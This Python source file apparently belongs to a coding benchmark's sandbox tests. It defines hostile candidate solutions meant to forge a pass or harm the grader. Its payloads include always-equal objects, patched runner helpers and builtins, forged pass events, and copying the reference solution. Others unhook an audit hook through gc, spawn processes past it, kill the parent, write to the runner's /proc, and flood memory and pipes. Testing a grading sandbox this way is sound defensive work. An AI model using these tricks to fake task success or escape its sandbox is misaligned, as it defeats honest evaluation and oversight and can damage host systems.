"""Hostile candidates: code that tries to be graded passed without solving its task, or to
harm the machine that grades it. ``tests/sandbox/test_hostile.py`` runs each through the
sandbox and ``bench/hostile.py`` prints what each achieved.

Every candidate answers wrongly (or copies an answer it should never see), so a pass is a
forgery. Each is a function of the task's entry point giving the candidate's source.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

REPOSITORY = Path(__file__).parents[2]
ROMAN_REFERENCE = (
    REPOSITORY / "loopbench" / "tasks" / "coding" / "suites" / "roman_numerals" / "reference.py"
)
ROMAN_HELDOUT = (
    REPOSITORY / "loopbench" / "tasks" / "coding" / "suites" / "roman_numerals" / "heldout.py"
)
ROMAN_HELDOUT_TESTS = tuple(
    line.split("(")[0].removeprefix("def ")
    for line in ROMAN_HELDOUT.read_text("utf-8").splitlines()
    if line.startswith("def test_")
)  # every name, in order: the worst case, a forger who knows the suite

# The audit hook is defence in depth: code in its process can reach the hook's closure and
# empty what it refuses.
UNHOOK = """
import gc

for _hook in [o for o in gc.get_objects() if getattr(o, "__name__", "") == "hook"]:
    for _cell in _hook.__closure__ or ():
        if isinstance(_cell.cell_contents, (frozenset, tuple, dict)):
            _cell.cell_contents = type(_cell.cell_contents)()
        elif isinstance(_cell.cell_contents, int):
            _cell.cell_contents = 10**9
"""

# A child process started past the hook: _posixsubprocess.fork_exec raises no audit event, and
# its preexec_fn runs Python in the child.
SPAWN = """
import _posixsubprocess, os

def _spawn(body):
    r, w = os.pipe()
    pid = _posixsubprocess.fork_exec(
        [b"x"], [b"/nonexistent"], True, (), None, None, -1, -1, -1, -1, -1, -1,
        r, w, True, False, -1, -1, None, -1, -1, body, False)
    os.close(r)
    os.close(w)
    return pid
"""


def wrong(entry: str) -> str:
    """A wrong answer to any task: every call returns 0."""
    return f"\ndef {entry}(*args, **kwargs):\n    return 0\n"


def replaced_helpers(entry: str) -> str:
    """The runner's comparison helpers replaced from the candidate's module, and raises'
    __exit__ made to swallow every outcome (issue 20)."""
    return (
        "import sys\n"
        "main = sys.modules['__main__']\n"
        "for name in ('_lb_eq', '_lb_true', '_lb_value'):\n"
        "    setattr(main, name, lambda *a, **k: None)\n"
        "if hasattr(main, 'raises'):\n"
        "    main.raises.__exit__ = lambda self, *exc: True\n"
        "for module in list(sys.modules.values()):\n"
        "    if hasattr(module, 'raises') and isinstance(module.raises, type):\n"
        "        module.raises.__exit__ = lambda self, *exc: True\n"
    ) + wrong(entry)


def forged_events(entry: str) -> str:
    """Pass events for every held-out test written to every descriptor it holds, then an exit
    before any test runs (issue 20)."""
    return (
        "import json, os\n"
        f"names = {list(ROMAN_HELDOUT_TESTS)!r}\n"
        "lines = ''.join(json.dumps({'event': e, 'test': n}) + '\\n'\n"
        "                for n in names for e in ('start', 'pass'))\n"
        "lines += json.dumps({'event': 'end', 'status': 'passed', 'detail': ''}) + '\\n'\n"
        "for fd in range(3, 256):\n"
        "    try:\n"
        "        os.write(fd, lines.encode())\n"
        "    except OSError:\n"
        "        pass\n"
        "os._exit(0)\n"
    ) + wrong(entry)


def always_equal(entry: str) -> str:
    """An object equal to everything, true, close to every number, and of any length."""
    return (
        "class Anything:\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
        "    def __hash__(self): return 0\n"
        "    def __bool__(self): return True\n"
        "    def __len__(self): return 0\n"
        "    def __abs__(self): return self\n"
        "    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = lambda s, o: s\n"
        "    __truediv__ = __rtruediv__ = __floordiv__ = __mod__ = __pow__ = __add__\n"
        "    def __round__(self, n=0): return self\n"
        "    def __iter__(self): return iter(())\n"
        "    def __getitem__(self, key): return self\n"
        "    def __contains__(self, item): return True\n"
        "    def __repr__(self): return 'Anything()'\n"
        f"\ndef {entry}(*args, **kwargs):\n    return Anything()\n"
    )


def always_equal_str(entry: str) -> str:
    """A str subclass equal to everything: a built-in type with custom behaviour."""
    return (
        "class Text(str):\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    __hash__ = str.__hash__\n"
        f"\ndef {entry}(*args, **kwargs):\n    return Text('x')\n"
    )


def patched_builtins(entry: str) -> str:
    """Built-ins the runner might compare with, replaced: isinstance, type checks, equality
    of the built-in types cannot be patched, but every name reachable can."""
    return (
        "import builtins, json\n"
        "builtins.isinstance = lambda *a: True\n"
        "builtins.repr = lambda *a: 'ok'\n"
        "builtins.len = lambda *a: 0\n"
        'json.dumps = lambda *a, **k: \'{"event": "pass"}\'\n'
        "json.loads = lambda *a, **k: {'event': 'pass'}\n"
    ) + wrong(entry)


def memory_past_the_hook(entry: str) -> str:
    """Four children of 300 MB each (each under the per-process limit), then the reference's
    answers: the box as a whole is over its memory (issue 20: 1.3 GB in a run that passed)."""
    hog = (
        UNHOOK
        + SPAWN
        + """
import time

def _hog():
    block = b"x" * (300 << 20)
    time.sleep(3 + len(block) * 0)
    os._exit(0)

for _ in range(4):
    _spawn(_hog)
time.sleep(2)
"""
    )
    return hog + ROMAN_REFERENCE.read_text("utf-8")


def reads_the_reference(entry: str) -> str:
    """Past the hook, the task's reference solution read from this repository and run: a
    pass copied from the harness's files."""
    return UNHOOK + f"exec(open({str(ROMAN_REFERENCE)!r}).read())\n"


def writes_tmp(token: str) -> str:
    """Past the hook, files in /tmp, /var/tmp and /dev/shm that sleep on; then a wrong answer."""
    return (
        UNHOOK
        + "import time\n"
        + "".join(
            f"open('{folder}/{token}', 'w').write('left behind')\n"
            for folder in ("/tmp", "/var/tmp", "/dev/shm")
            if folder
        )
        + "time.sleep(1)\n"
        + wrong("parse_roman")
    )


def kills_the_parent(entry: str) -> str:
    """Past the hook, SIGKILL to its parent, its process group and every process it may
    signal; then a wrong answer."""
    return (
        UNHOOK
        + "import os, signal\n"
        + "for target in (os.getppid(), -os.getpgrp(), -1):\n"
        + "    try:\n"
        + "        os.kill(target, signal.SIGKILL) if target > 0 else os.killpg(-target, 9)\n"
        + "    except (OSError, ValueError):\n"
        + "        pass\n"
    ) + wrong(entry)


def reads_the_trusted_process(entry: str) -> str:
    """Past the hook, every process it can see searched for the test runner: its descriptors
    written to, its memory read. Then a wrong answer."""
    return (
        UNHOOK
        + """
import os
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        cmd = open(f'/proc/{pid}/cmdline', 'rb').read()
    except OSError:
        continue
    if b'suite_runner' not in cmd:
        continue
    for fd in range(0, 64):
        try:
            with open(f'/proc/{pid}/fd/{fd}', 'w') as f:
                f.write('{"event": "end", "status": "passed", "detail": ""}\\n')
        except OSError:
            pass
    try:
        open(f'/proc/{pid}/mem', 'rb').read(1)
    except OSError:
        pass
"""
    ) + wrong(entry)


def huge_answer(entry: str) -> str:
    """Returns 200 MB of text, in a process whose limit is a little over it."""
    return f"\ndef {entry}(*args, **kwargs):\n    return 'I' * (200 << 20)\n"


def deep_answer(entry: str) -> str:
    """Returns a list nested 100,000 deep, and one that holds itself."""
    return (
        "import sys\nsys.setrecursionlimit(10**6)\n"
        f"\ndef {entry}(*args, **kwargs):\n"
        "    deep = []\n    for _ in range(100_000):\n        deep = [deep]\n"
        "    loop = []\n    loop.append(loop)\n"
        "    return [deep, loop]\n"
    )


def endless_recursion(entry: str) -> str:
    return f"\ndef {entry}(*args, **kwargs):\n    return {entry}(*args, **kwargs)\n"


def exits_at_each_call(entry: str) -> str:
    """os._exit(0) in the middle of the first test."""
    return f"import os\n\ndef {entry}(*args, **kwargs):\n    os._exit(0)\n"


def replies_for_the_runner(entry: str) -> str:
    """Past the hook, a forked child that keeps the reply channel and writes pass-like data
    to every descriptor while the parent answers wrongly."""
    return (
        UNHOOK
        + SPAWN
        + """
import json, time

def _writer():
    data = json.dumps({"value": 1}).encode()
    for _ in range(50):
        for fd in range(3, 64):
            try:
                os.write(fd, len(data).to_bytes(4, "big") + data)
            except OSError:
                pass
        time.sleep(0.01)
    os._exit(0)

_spawn(_writer)
"""
    ) + wrong(entry)


def floods_output(entry: str) -> str:
    """The reference's answers, and 30 MB each to stdout and stderr past sys.stdout (the file
    size limit ignored), then its descriptors truncated to hide it (issue 28: passed, at every
    level)."""
    return (
        "import os, signal\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "for fd in (1, 2):\n"
        "    for _ in range(30):\n"
        "        try:\n"
        "            os.write(fd, b'x' * (1 << 20))\n"
        "        except OSError:\n"
        "            pass\n"
        "    try:\n"
        "        os.ftruncate(fd, 0)\n"
        "        os.lseek(fd, 0, os.SEEK_SET)\n"
        "    except OSError:\n"
        "        pass\n"
    ) + ROMAN_REFERENCE.read_text("utf-8")


#: How many bytes of nested lists the patched worker sends as each reply: all a message may
#: hold, 16 MiB, as 5.6 million empty lists.
PIPE_FLOOD_BYTES = 16 * 1024 * 1024


def floods_the_pipe(entry: str) -> str:
    """The worker's own reply replaced: each one is 16 MiB of nested lists, within the size of
    a message, which the trusted test runner (outside the box) would parse into millions of
    objects, twice (issue 28: a peak of 666-794 MB against the box's 512 MB)."""
    return (
        "import os, sys\n"
        "_data = sys.modules['loopbench.sandbox.plain_data']\n"
        "_send = _data.send\n"
        f'_BODY = b\'{{"op":"reply","value":[\' + b\'[],\' * (({PIPE_FLOOD_BYTES} - 40) // 3)\n'
        "_BODY += b'[]]}'\n"
        "def _flood(fd, message):\n"
        "    if message.get('op') != 'reply':\n"
        "        return _send(fd, message)\n"
        "    view = memoryview(len(_BODY).to_bytes(4, 'big') + _BODY)\n"
        "    while view:\n"
        "        view = view[os.write(fd, view):]\n"
        "_data.send = _flood\n"
    ) + wrong(entry)


#: What the escape sequences a candidate prints would do on a terminal: set its title, clear
#: it, write over a line with a carriage return, and show text reversed.
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[H\rpassed\u202edessap"


def prints_escapes(entry: str) -> str:
    """Escape sequences printed, raised and returned in a way each is shown: the message of
    what it raises, as a test's actual value."""
    return (
        f"import sys\nESCAPES = {ESCAPES!r}\nprint(ESCAPES)\nprint(ESCAPES, file=sys.stderr)\n"
        f"\ndef {entry}(*args, **kwargs):\n    raise ValueError(ESCAPES)\n"
    )


#: How deep the folders the candidate leaves go: past both Python's recursion limit and the
#: longest path a call takes (PATH_MAX, 4096).
NESTED = 3000


def leaves_leftovers(token: str, key: int) -> str:
    """Past the hook, what outlives a run if no one removes it (not among CASES: at the level
    none as the same user, it stays): folders nested NESTED deep in
    /tmp and in its work directory; files in /tmp, /var/tmp, /dev/shm and /run/lock; System V
    shared memory, a message queue and a semaphore set (``key``). Then a wrong answer."""
    return (
        UNHOOK
        + f"""
import ctypes, os

def _nest(top):
    here = os.getcwd()
    try:
        os.chdir(top)
        os.mkdir({token!r})
        os.chdir({token!r})
        for _ in range({NESTED}):
            os.mkdir("d")
            os.chdir("d")
        open("leaf", "w").write("left behind")
    except OSError:
        pass
    finally:
        os.chdir(here)

_nest("/tmp")
_nest(".")
for _folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
    try:
        open(f"{{_folder}}/{token}-file", "w").write("left behind")
    except OSError:
        pass
try:
    _libc = ctypes.CDLL(None)
    _libc.shmget({key}, 4096, 0o1600)
    _libc.msgget({key}, 0o1600)
    _libc.semget({key}, 1, 0o1600)
except (OSError, AttributeError):
    pass
"""
        + wrong("parse_roman")
    )


@dataclass(frozen=True)
class Hostile:
    name: str
    make: Callable[[str], str]
    why: str


#: Hostile candidates run on roman_numerals' held-out suite (and some on HumanEval).
CASES: tuple[Hostile, ...] = (
    Hostile("replaced-helpers", replaced_helpers, "the runner's helpers and raises patched"),
    Hostile("forged-events", forged_events, "pass events written to every descriptor"),
    Hostile("always-equal", always_equal, "an object equal to everything"),
    Hostile("always-equal-str", always_equal_str, "a str subclass equal to everything"),
    Hostile("patched-builtins", patched_builtins, "builtins and json replaced"),
    Hostile("memory-past-the-hook", memory_past_the_hook, "1.2 GB in four processes"),
    Hostile("reads-the-reference", reads_the_reference, "the reference read from the repo"),
    Hostile("kills-the-parent", kills_the_parent, "SIGKILL to its parent, group and all"),
    Hostile("reads-the-trusted-process", reads_the_trusted_process, "the runner's /proc"),
    Hostile("huge-answer", huge_answer, "200 MB returned"),
    Hostile("deep-answer", deep_answer, "nested 100,000 deep, and a cycle"),
    Hostile("endless-recursion", endless_recursion, "recursion without end"),
    Hostile("exits-at-each-call", exits_at_each_call, "os._exit(0) mid-test"),
    Hostile("replies-for-the-runner", replies_for_the_runner, "a child writing replies"),
    Hostile("floods-output", floods_output, "60 MB printed past sys.stdout, then truncated"),
    Hostile("floods-the-pipe", floods_the_pipe, "16 MiB of nested lists as each reply"),
    Hostile("prints-escapes", prints_escapes, "terminal escapes printed and raised"),
)
